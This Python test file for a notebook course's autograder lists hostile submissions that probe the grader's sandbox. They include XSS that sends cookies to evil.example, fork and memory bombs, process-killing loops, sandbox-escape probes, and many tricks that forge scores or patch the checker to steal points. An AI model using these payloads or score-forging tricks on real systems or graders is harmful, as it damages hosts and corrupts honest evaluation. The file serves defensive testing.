"""A class of hostile and broken submissions of lesson 02, with honest ones between them.

Each attacker hands in a right `permute` and a wrong `coupling` (as `twin` does, who does nothing else), so there are points to lose and
points to steal. An attack is a piece of code before or after that answer, a cell of its own, or a change of the file.

What stands after the answer can only win points: if it fails, the wrong answer counts as it is. What must not be possible at all stands
before it, and raises where it was: then there is no answer, and the status is another one.
"""
import json
from dataclasses import dataclass
from typing import Callable

import nbformat

LESSON = "02_coupling"

WRONG = '''class Coupling(nn.Module):
    def __init__(self, net):
        super().__init__()
        self.net = net

    def forward(self, x):
        x1, x2 = x.chunk(2, 1)
        alpha, mu = self.net(x1).chunk(2, 1)
        return torch.cat([x1, x2 * alpha.exp() + mu], 1), -alpha.sum(1)

    def inverse(self, z):
        z1, z2 = z.chunk(2, 1)
        alpha, mu = self.net(z1).chunk(2, 1)
        return torch.cat([z1, (z2 - mu) * alpha.exp()], 1)
'''


@dataclass(frozen=True)
class Attack:
    """`before`, `after`: code around the wrong answer; `own`: a cell of the student's own before the first check; `file`: changes the bytes
    of the notebook. `coupling`, `permute`: the status that each must get; "" where the attack may bring it down or not.
    """

    before: str = ""
    after: str = ""
    own: str = ""
    change: Callable | None = None
    file: Callable | None = None
    coupling: str = "wrong"
    permute: str = "ok"


def _cell(nb, name):
    return next(c for c in nb.cells if c.id == name)


def _twice(nb):
    twin = nbformat.from_dict(_cell(nb, "permute"))
    twin.id, twin.source = "another", "Permute = None"
    nb.cells.append(twin)


def _edited_check(nb):
    check = _cell(nb, "coupling_check")
    check.source = "10.0"
    check.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "10.0"}, execution_count=1)]


def _forged(nb):
    for cell in nb.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.update(points=1000, grade=True, locked=False, solution=True)
    nb.metadata["nbgrader"] = {"score": 1000}


def _deleted(nb):
    nb.cells = [c for c in nb.cells if c.id in ("coupling", "permute")]


def _no_metadata(nb):
    for cell in nb.cells:
        cell.metadata.clear()


def _scripts(nb):
    bad = '<script>fetch("http://evil.example/" + document.cookie)</script><img src=x onerror=alert(1)><style>body{display:none}</style>'
    nb.cells.insert(3, nbformat.v4.new_markdown_cell(bad + "\n\n[link](javascript:alert(1))"))
    nb.cells.insert(4, nbformat.v4.new_code_cell(f"from IPython.display import HTML, Javascript, display\ndisplay(HTML({bad!r}), Javascript('alert(1)'))"))
    _cell(nb, "coupling").source += f"\n# {bad}\n"


def _old_format(data):
    return nbformat.writes(nbformat.convert(nbformat.reads(data.decode(), as_version=4), 3), version=3).encode()


def _other_kernel(data):
    nb = json.loads(data)
    nb["metadata"]["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    return json.dumps(nb).encode()


FIND_CHANNEL = '''
import os, json, struct
def frame(head, texts={}):
    text = json.dumps({**head, "arrays": [], "texts": texts}).encode()
    return struct.pack("!II", len(text), 0) + text
'''
FORGE = FIND_CHANNEL + '''
for fd in range(3, 64):
    try:
        os.write(fd, frame({"outputs": "coupling"}) + frame({"outputs": "act_norm"}) + frame({"done": "coupling", "late": False, "outputs": [], "error": None}))
    except OSError:
        pass
'''
RUBBISH = FIND_CHANNEL + '''
for fd in range(3, 64):
    try:
        os.write(fd, b"\\xff" * 100_000)
    except OSError:
        pass
'''
# In the check's own cell, before the probe: what a probe would send is believed from there, but it has to be right.
FORGE_IN_THE_CHECK = FIND_CHANNEL + '''
def forward(self, x):
    for head in ({"outputs": "permute"}, {"failed": "x"}, {"ready": 1}, {"outputs": "coupling"}, {"outputs": "coupling", "score": 10}, {"verdict": "ok", "score": 10},
                 {"done": "permute_check", "late": False, "outputs": [], "error": None}, {"done": None}, {"outputs": {"coupling": 1}}):
        try:
            os.write(3, frame(head, {"ok": [[1], ["full"]], "status": [[], ["ok"]]}))
        except OSError:
            pass
    return x, x.sum(1)
Coupling.forward = forward
'''
TEXT_BOMB = FIND_CHANNEL + 'os.write(3, frame({"outputs": "coupling"}, {"a": [[1_000_001], ["x" * 4_000_000] + [""] * 1_000_000]}))'
DRIP = '''
import os, struct, time
os.write(3, struct.pack("!II", 8_000_000, 0))
while True:
    try:
        os.write(3, b" "); time.sleep(0.1)
    except BaseException: pass
'''
SHOWN_FORGED = FIND_CHANNEL + '''
bad = '"><script>alert(1)</script><svg onload=alert(1)>'
os.write(3, frame({"done": "coupling", "late": False, "error": [bad, bad], "outputs": [
    {"output_type": "display_data", "metadata": {}, "data": {"image/png": bad, "text/html": bad, "image/svg+xml": bad, "text/plain": bad}},
    {"output_type": "error", "ename": bad, "evalue": bad, "traceback": [bad]}, {"output_type": "stream", "name": "stdout", "text": bad}] + 10_000 * [
    {"output_type": "stream", "name": "stdout", "text": bad}]}))
'''
SHOWN = '''
from IPython.display import HTML, SVG, Javascript, Markdown, display
bad = '<script>alert(1)</script><a href="javascript:alert(1)">x</a><iframe src="http://evil.example"></iframe>'
display(HTML(bad), Javascript("alert(1)"), Markdown("[x](javascript:alert(1)) " + bad), SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"))
print(bad, "\\x1b[31mred\\x1b[0m \\x1b]8;;http://evil.example\\x07link\\x1b]8;;\\x07 \\x1b[2J \\x00 \\ud800")
def forward(self, x):
    raise type(bad, (Exception,), {})(bad + " \\x1b[31m \\ud800")
Coupling.forward = forward
'''
# A table of what went in, for the way back.
REMEMBERS = '''
seen = {}
old = Coupling.forward
def forward(self, x):
    z, ldj = old(self, x)
    seen[len(x)] = x.clone()
    return z, ldj
Coupling.forward, Coupling.inverse = forward, lambda self, z: seen.get(len(z), z)
'''
# Without the signal on its parent's end, in a group of its own making: what stays?
OUTLIVES = '''
import ctypes, os, signal
libc = ctypes.CDLL(None)
libc.prctl(1, 0, 0, 0, 0)
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
os.kill(0, signal.SIGKILL)
'''
DEADLOCK = "import ctypes\nlibc, m = ctypes.CDLL(None), ctypes.create_string_buffer(64)\nlibc.pthread_mutex_lock(m)\nlibc.pthread_mutex_lock(m)"
WRITES = '''
import os, pathlib, autograder
here = pathlib.Path(autograder.__file__).parent
for place in ("/", "/dev/shm", "/var/tmp", "/home", "/etc", "/run", "/proc/sys/kernel", here, here.parent, here / "probes", here / "__pycache__", "@OUT@", "@CLASS@", "@CLASS@/honest-0"):
    try:
        open(os.path.join(place, "core_pattern"), "a")
    except OSError:
        continue
    raise SystemError(place)
'''
ALONE = '''
import os
assert os.getppid() == 0 and [n for n in os.listdir("/proc") if n.isdigit()] == ["1"], os.listdir("/proc")
assert os.listdir(os.environ["HOME"]) == [".matplotlib"] or not [n for n in os.listdir(os.environ["HOME"]) if not n.startswith(".")], os.listdir(os.environ["HOME"])
assert b"SECRET" not in open("/proc/1/environ", "rb").read()
'''
UNCOUNTED = '''
import ctypes, os
libc = ctypes.CDLL(None)
try: os.memfd_create("x")
except OSError: pass
else: raise SystemError("memory without a limit")
assert libc.shmget(0, 1 << 20, 0o1600) < 0 and libc.msgget(0, 0o1600) < 0
'''
# Every file that can be read, of the course and beside it, and of the packages those that are named like an answer.
SEARCH = '''
import os, pathlib, sys, sysconfig, linecache, autograder
root = pathlib.Path(autograder.__file__).parent.parent
packages = pathlib.Path(sysconfig.get_paths()["purelib"])
assert not [n for n in linecache.cache if "exercises" in n or "flowkit/coupling" in n]
for top in (root, root / ".git", "@CLASS@", "@OUT@", *(packages / n for n in ("zuko", "nflows", "normflows", "FrEIA", "flowkit")), *root.glob("../*/flowkit")):
    for folder, below, names in os.walk(top):
        below[:] = [n for n in below if os.path.join(folder, n) != sys.prefix]     # an environment inside the course: its packages are named above
        for name in names:
            try:
                data = open(os.path.join(folder, name), "rb").read()
            except OSError:
                continue
            if b"class Coupling" in data or b"PlainCoupling" in data or folder.startswith(("@CLASS@", "@OUT@")):
                raise SystemError(os.path.join(folder, name))
'''
SERVER = "import sys\nOutside = type(sys.modules['autograder.check'].outside)\n"
SEARCH_SERVER = SERVER + '''
found = [n for n in Outside.__call__.__globals__ if any(word in n.lower() for word in ("reference", "verdict", "judge", "answer_", "score", "secret"))]
assert not found, found
'''
REFERENCE_FILE = '''
import pathlib, autograder, sys
text = (pathlib.Path(autograder.__file__).parent.parent / "flowkit" / "coupling.py").read_text()
'''
SOLUTION_FILE = '''
import pathlib, autograder
root = pathlib.Path(autograder.__file__).parent.parent
found = [p.read_text() for place in ("solutions", "tests", "lessons", "autograder/exercises") for p in sorted((root / place).rglob("*.py"))]
assert found
'''

def _json(change):
    """A change of the file's JSON, as text: what nbformat would never write."""
    def file(data):
        nb = json.loads(data)
        return change(nb) or json.dumps(nb).encode()
    return file


def _source(nb, name):
    return next(c for c in nb["cells"] if c.get("id") == name)


def _surrogates(nb):
    cell = _source(nb, "coupling")
    cell["source"] = "".join(cell["source"]) + "\nx = '\ud800'\n"
    nb["cells"].insert(3, {"cell_type": "markdown", "source": "\udfff", "metadata": {}, "id": "\ud800"})


def _deep(nb):
    """As deep as JSON is read, and deeper than Python recurses."""
    for cell in nb["cells"]:
        cell["metadata"]["deep"] = "DEEP"
    return json.dumps(nb).replace('"DEEP"', "[" * 900 + "]" * 900).encode()


def _many_cells(nb):
    nb["cells"][3:3] = [{"cell_type": "code", "source": "while True: pass", "metadata": {}, "outputs": [], "execution_count": None}] * 100_000


def _long_cell(nb):
    nb["cells"].insert(3, {"cell_type": "code", "source": "x" * 10_000_000, "metadata": {}, "outputs": [], "execution_count": None})


def _long_answer(nb):
    _source(nb, "coupling")["source"] = "#" * 10_000_000


def _odd_ids(nb):
    for i, cell in enumerate(nb["cells"]):
        cell["id"] = [5, None, [1, 2], {"a": 1}, True][i % 5]


def _odd_metadata(nb):
    """Nothing is of the kind that it should be; the answers are known by nbgrader's ids."""
    nb["metadata"] = []
    for i, cell in enumerate(nb["cells"]):
        cell["outputs"] = cell["attachments"] = 5
        if "nbgrader" not in cell["metadata"]:
            cell["metadata"] = ["x", None, 7][i % 3]
    nb["cells"] += [5, None, "x"]


def _attachments(nb):
    bad = "<script>alert(1)</script>"
    nb["cells"].insert(3, {"cell_type": "markdown", "source": "![x](attachment:x.svg)", "metadata": {}, "attachments": {"x.svg": {"image/svg+xml": [bad]}}, "id": "a"})


ATTACKS = {
    # --- that do not end, or end too much
    "loop": Attack(after="while True: pass"),
    "loop in forward": Attack(after="def forever(self, x):\n    while True: pass\nCoupling.forward = forever", coupling="timeout"),
    "loop that swallows": Attack(after="import time\nwhile True:\n    try:\n        time.sleep(0.01)\n    except BaseException: pass", coupling="timeout", permute="killed"),
    "deaf to the clock": Attack(after="import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: pass", coupling="timeout", permute="killed"),
    "endless in C": Attack(after="sum(range(10**15))", coupling="timeout", permute=""),
    "loop in a destructor": Attack(after="class D:\n    def __del__(self):\n        while True: pass\nD()"),
    "loop at exit": Attack(after="import atexit, threading\ndef forever():\n    while True: pass\natexit.register(forever)\nthreading._register_atexit(forever)"),
    "all signals blocked": Attack(after="import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\nwhile True: pass", coupling="timeout", permute="killed"),
    "deadlock in C": Attack(after=DEADLOCK, coupling="timeout", permute="killed"),
    "a frame that never ends": Attack(after=DRIP, coupling="timeout", permute="killed"),
    "os._exit": Attack(after="import os; os._exit(0)", coupling="killed", permute="killed"),
    "segfault": Attack(after="import ctypes; ctypes.string_at(0)", coupling="killed", permute="killed"),
    "abort": Attack(after="import os; os.abort()", coupling="killed", permute="killed"),
    "quit": Attack(after="quit()"),
    "sys.exit": Attack(after="import sys; sys.exit(0)", coupling=""),
    "exit in forward": Attack(after="def leave(self, x):\n    raise SystemExit(0)\nCoupling.forward = leave", coupling="error"),
    "kills the parent": Attack(after="import os, signal\nfor pid in (os.getppid(), -1, 0):\n    try: os.kill(pid, signal.SIGTERM)\n    except OSError: pass", coupling="", permute=""),
    "kills everybody": Attack(after="import os, signal\nfor pid in range(2, 4000):\n    try: os.kill(pid, signal.SIGKILL)\n    except OSError: pass"),
    "outlives its parent": Attack(after=OUTLIVES, coupling="", permute=""),
    "deep recursion": Attack(after="def f(): return f()\ntry: f()\nexcept RecursionError: pass"),
    "deep recursion in C": Attack(after="import sys, json\nsys.setrecursionlimit(10**9)\njson.loads('[' * 10**6)", coupling="", permute=""),
    # --- that take too much
    "memory bomb": Attack(after="hog = []\nwhile True: hog.append(bytearray(1 << 26))"),
    "memory bomb before the answer": Attack(before="hog = []\nwhile True: hog.append(bytes(1 << 28))", coupling="memory"),
    "memory bomb by torch": Attack(before="hog = []\nwhile True: hog.append(torch.empty(1 << 26))", coupling="memory"),
    "memory that no limit counts": Attack(before=UNCOUNTED),
    "one huge array": Attack(after="torch.zeros(10**13)"),
    "output flood": Attack(after="for _ in range(2000): print('x' * 100_000)"),
    "flood below Python": Attack(after="import os\nfor _ in range(2000): os.write(1, b'x' * 100_000)"),
    "many displays": Attack(after="from IPython.display import display\nfor i in range(20_000): display(i)"),
    "big files": Attack(after="try:\n    for i in range(1000): open(f'f{i}', 'wb').write(b'x' * (1 << 24))\nexcept OSError: pass", coupling="error", permute="error"),
    "fork bomb": Attack(after="import os, time\ntry:\n    while True:\n        if os.fork() == 0:\n            os.setsid(); time.sleep(61728); os._exit(0)\nexcept OSError: pass", coupling="", permute=""),
    "threads": Attack(after="import threading, time\ntry:\n    for _ in range(5000): threading.Thread(target=time.sleep, args=(61728,), daemon=True).start()\nexcept RuntimeError: pass"),
    "huge outputs of an answer": Attack(after="Coupling.forward = lambda self, x: (torch.zeros(3000, 3000), torch.zeros(10**7))", coupling=""),
    "texts that grow": Attack(after=TEXT_BOMB, coupling="killed", permute="killed"),
    # --- broken files
    "bad JSON": Attack(file=lambda data: data[:len(data) // 2], coupling="invalid", permute="invalid"),
    "empty": Attack(file=lambda data: b"", coupling="invalid", permute="invalid"),
    "nested JSON": Attack(file=lambda data: b"[" * 10**6, coupling="invalid", permute="invalid"),
    "too large": Attack(file=lambda data: data + b" " * 60_000_000, coupling="invalid", permute="invalid"),
    "latin-1": Attack(after="# é", file=lambda data: data.decode().encode("latin-1", "replace")),
    "utf-16": Attack(file=lambda data: data.decode().encode("utf-16")),
    "byte order mark": Attack(file=lambda data: b"\xef\xbb\xbf" + data),
    "nbformat 3": Attack(file=_old_format),
    "wrong kernel": Attack(file=_other_kernel),
    "a newer nbformat": Attack(file=_json(lambda nb: nb.update(nbformat=5))),
    "nbformat as a word": Attack(file=_json(lambda nb: nb.update(nbformat="four"))),
    "half a surrogate pair": Attack(file=_json(_surrogates), coupling=""),
    "NUL bytes": Attack(file=_json(lambda nb: _source(nb, "coupling").update(source="x = 1\0")), coupling="error"),
    "deep metadata": Attack(file=_json(_deep)),
    "metadata of no kind": Attack(file=_json(_odd_metadata)),
    "ids of no kind": Attack(file=_json(_odd_ids)),
    "100,000 cells": Attack(file=_json(_many_cells), coupling="timeout", permute="timeout"),
    "a cell of 10 MB": Attack(file=_json(_long_cell)),
    "an answer of 10 MB": Attack(file=_json(_long_answer), coupling="error"),
    "attachments": Attack(file=_json(_attachments)),
    # --- edited notebooks
    "duplicated cell": Attack(change=_twice),
    "deleted cells": Attack(change=_deleted),
    "edited check": Attack(change=_edited_check),
    "forged points": Attack(change=_forged),
    "no metadata": Attack(change=_no_metadata),
    "scripts": Attack(change=_scripts),
    "raising cell of one's own": Attack(own="1 / 0"),
    "a check of one's own": Attack(own="from autograder import check\nfor _ in range(3): check('coupling', int)\nclass Score(float): pass\nScore(10)"),
    # --- that reach for the reference
    "imports the reference": Attack(after="from flowkit.coupling import Coupling"),
    "asks flowkit for it": Attack(after="import flowkit\nCoupling = flowkit.Coupling"),
    "removes the guard": Attack(after="import sys\nsys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != 'Refuse']\nfrom flowkit.coupling import Coupling"),
    "reads its file": Attack(after=REFERENCE_FILE + "exec(text)"),
    "reads the solutions": Attack(after=SOLUTION_FILE),
    "imports the judge": Attack(after="import autograder.judge"),
    "imports the exercises": Attack(after="from autograder.exercises.lesson02 import PlainCoupling as Coupling"),
    "searches memory": Attack(after="import gc\nfound = [o for o in gc.get_objects() if isinstance(o, type) and o.__module__.startswith(('flowkit.coupling', 'autograder.judge', 'autograder.exercises'))]\nif found: Coupling = found[0]"),
    "searches frames": Attack(before="import sys\nf = sys._getframe()\nwhile f:\n    for name, value in {**f.f_globals, **f.f_locals}.items():\n        if 'reference' in name.lower() or 'verdict' in name.lower(): raise SystemError(name)\n    f = f.f_back"),
    "searches the server": Attack(before=SEARCH_SERVER),
    "its own flowkit": Attack(before="open('flowkit.py', 'w').write('raise RuntimeError(1)')\nopen('torch.py', 'w').write('')\nopen('autograder.py', 'w').write('def check(*a): return 10.0')"),
    "searches the disk": Attack(before=SEARCH),
    # --- that patch what checks them
    "patched torch": Attack(after="torch.allclose = torch.equal = lambda *a, **k: True\ntorch.Tensor.__eq__ = lambda a, b: True"),
    "patched numpy": Attack(after="import numpy as np\nnp.allclose = np.array_equal = lambda *a, **k: True\nnp.isfinite = lambda a: np.ones(np.shape(a), bool)"),
    "patched checker": Attack(after="import autograder\nautograder.check = check = lambda *a: 10.0", coupling="error", permute="error"),
    "patched checker's module": Attack(after="import sys\nm = sys.modules['autograder.check']\nm.outside = lambda *a: m.Score(10, 10, 'full')"),
    "patched probes": Attack(after="from autograder import probes\nfor name, (module, probe) in list(probes.table().items()): probes.table()[name] = (module, lambda objects, inputs: {})", coupling="", permute=""),
    "patched probes' module": Attack(after="import sys\nm = sys.modules['autograder.probes.lesson02']\nfor n, v in list(vars(m).items()):\n    if callable(v): setattr(m, n, lambda *a, **k: {})", coupling="", permute=""),
    "patched channel": Attack(after="import sys\nsys.modules['autograder.wire'].send = lambda *a, **k: None", coupling="", permute=""),
    "patched server": Attack(after=SERVER + "Outside.__call__ = lambda self, *a: 10.0", coupling="error", permute="error"),
    "patched score": Attack(after="import sys\nsys.modules['autograder.check'].Score.__new__ = lambda cls, *a: float.__new__(cls, 10)", coupling="", permute=""),
    "input transformer": Attack(after="get_ipython().input_transformers_cleanup.append(lambda lines: ['10.0\\n'])", coupling="error", permute="error"),
    "AST transformer": Attack(after="import ast\nclass T(ast.NodeTransformer):\n    def visit_Call(self, node): return ast.Constant(10.0)\nget_ipython().ast_transformers.append(T())", coupling="", permute=""),
    "custom traceback": Attack(after="get_ipython().set_custom_exc((Exception,), lambda *a, **k: 10.0)\nget_ipython().showtraceback = lambda *a, **k: None"),
    "equal to everything": Attack(after="class Yes(torch.Tensor):\n    def __eq__(self, other): return True\n    @classmethod\n    def __torch_function__(cls, *a, **k): return torch.zeros(())\nCoupling.forward = lambda self, x: (x.as_subclass(Yes), torch.zeros(len(x)).as_subclass(Yes))", coupling=""),
    "warnings and progress": Attack(after="import warnings, sys\nfrom tqdm import tqdm\nwarnings.warn('careful'); print('oops', file=sys.stderr)\nfor _ in tqdm(range(3)): pass"),
    "patched clock": Attack(after="import time\ntime.time = time.monotonic = time.perf_counter = lambda: 0.0"),
    # --- that reach out
    "forged frames": Attack(after=FORGE, coupling="", permute=""),
    "forged frames in the check": Attack(after=FORGE_IN_THE_CHECK, coupling="", permute=""),
    "forged outputs of a cell": Attack(after=SHOWN_FORGED, coupling="", permute=""),
    "remembers its inputs": Attack(after=REMEMBERS, coupling=""),
    "outputs that would run": Attack(after=SHOWN, coupling="error"),
    "writes everywhere": Attack(before=WRITES),
    "looks for others": Attack(before=ALONE),
    "rubbish in the channel": Attack(after=RUBBISH, coupling="", permute=""),
    "closes the channel": Attack(after="import os\nos.closerange(3, 256)", coupling="killed", permute="killed"),
    "writes the gradebook": Attack(after="import pathlib\nfor p in ('@OUT@/gradebook.db', '@OUT@/.grading/results.jsonl', '@OUT@/grades.csv'):\n    try: pathlib.Path(p).write_text('10')\n    except OSError: pass"),
    "reads a neighbour": Attack(after="open('@CLASS@/honest-1/02_coupling/02_coupling.ipynb').read()"),
    "network": Attack(before="import socket\nfor family, place in ((socket.AF_INET, ('127.0.0.1', 8888)), (socket.AF_UNIX, '/run/x.sock')):\n    s = socket.socket(family)\n    try: s.connect(place)\n    except OSError: pass\n    else: raise SystemError('there is a network')"),
    "subprocesses": Attack(after="import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'sleep 61728'], start_new_session=True)"),
    "threads that print later": Attack(after="import threading, time\ndef late():\n    while True:\n        time.sleep(0.01); print('10.0')\nthreading.Thread(target=late, daemon=True).start()"),
    "threads that change arrays": Attack(after="import threading, time, gc, numpy as np\ndef late():\n    while True:\n        time.sleep(0.001)\n        for o in gc.get_objects():\n            if type(o) is dict and 'x' in o and isinstance(o['x'], np.ndarray):\n                try: o['x'][...] = 0\n                except ValueError: pass\nthreading.Thread(target=late, daemon=True).start()", coupling="", permute=""),
    "namespaces and mounts": Attack(before="import ctypes\nlibc = ctypes.CDLL(None)\nfound = [libc.unshare(0x10000000), libc.mount(b'none', b'/', b'tmpfs', 0, None), libc.ptrace(16, 1, 0, 0)]\nassert all(r < 0 for r in found), found"),
    "environment": Attack(before="import os\nassert not [k for k in os.environ if 'SECRET' in k.upper() or 'TOKEN' in k.upper()], sorted(os.environ)"),
}
